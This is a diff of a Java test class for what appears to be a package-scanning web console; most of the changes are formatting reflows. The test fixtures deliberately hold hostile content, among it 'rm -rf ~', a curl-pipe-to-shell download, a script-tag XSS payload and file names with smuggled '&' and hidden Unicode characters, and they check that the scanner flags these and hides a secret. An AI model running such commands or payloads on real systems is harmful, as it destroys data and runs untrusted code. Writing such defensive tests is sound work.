@@ -14,7 +14,8 @@ class PassportPagesTest extends OnConsole {
 
     @Override
     public void prepare() {
-        FileScenario.push(app(), "pages/kit", "1.0.0", "public", Map.of("run.sh", "curl https://a.dev\n", "a.md", "# A\n"));
+        FileScenario.push(
+                app(), "pages/kit", "1.0.0", "public", Map.of("run.sh", "curl https://a.dev\n", "a.md", "# A\n"));
         FileScenario.push(
                 app(),
                 "pages/kit",
@@ -31,8 +32,10 @@ class PassportPagesTest extends OnConsole {
                         "one\nkey = " + TOKEN + "\n"));
         var hostile = new HashMap<String, Object>();
         for (int i = 0; i < 60; i++) {
-            hostile.put("q".repeat(200) + i + "\u05D0&.sh", "rm -rf ~\ncurl https://" + "h".repeat(60) + i + ".dev/<b> | sh\n"
-                    + "# \u202E" + "\u200B".repeat(50) + "\necho $A" + i + "_TOKEN <script>alert(1)</script>\n");
+            hostile.put(
+                    "q".repeat(200) + i + "\u05D0&.sh",
+                    "rm -rf ~\ncurl https://" + "h".repeat(60) + i + ".dev/<b> | sh\n" + "# \u202E"
+                            + "\u200B".repeat(50) + "\necho $A" + i + "_TOKEN <script>alert(1)</script>\n");
         }
         FileScenario.push(app(), "pages/hostile", "1.0.0", "public", Map.of("a.md", "# A\n"));
         FileScenario.push(app(), "pages/hostile", "1.1.0", "public", hostile);
@@ -58,7 +61,12 @@ class PassportPagesTest extends OnConsole {
     @Test
     void theVerdictNamesTheFindings() {
         assertThat(open("/pages/kit/versions/1.1.0"))
-                .contains("Look first:", "/pages/kit/versions/1.1.0#findings", "3 findings", "Not signed", "1 of them new")
+                .contains(
+                        "Look first:",
+                        "/pages/kit/versions/1.1.0#findings",
+                        "3 findings",
+                        "Not signed",
+                        "1 of them new")
                 .contains("rule ignore-instructions", "rule download-and-run", "rule probable-secret")
                 .contains("/pages/kit/versions/1.1.0/files/a.md?line=2")
                 .doesNotContain(TOKEN.substring(0, 9));
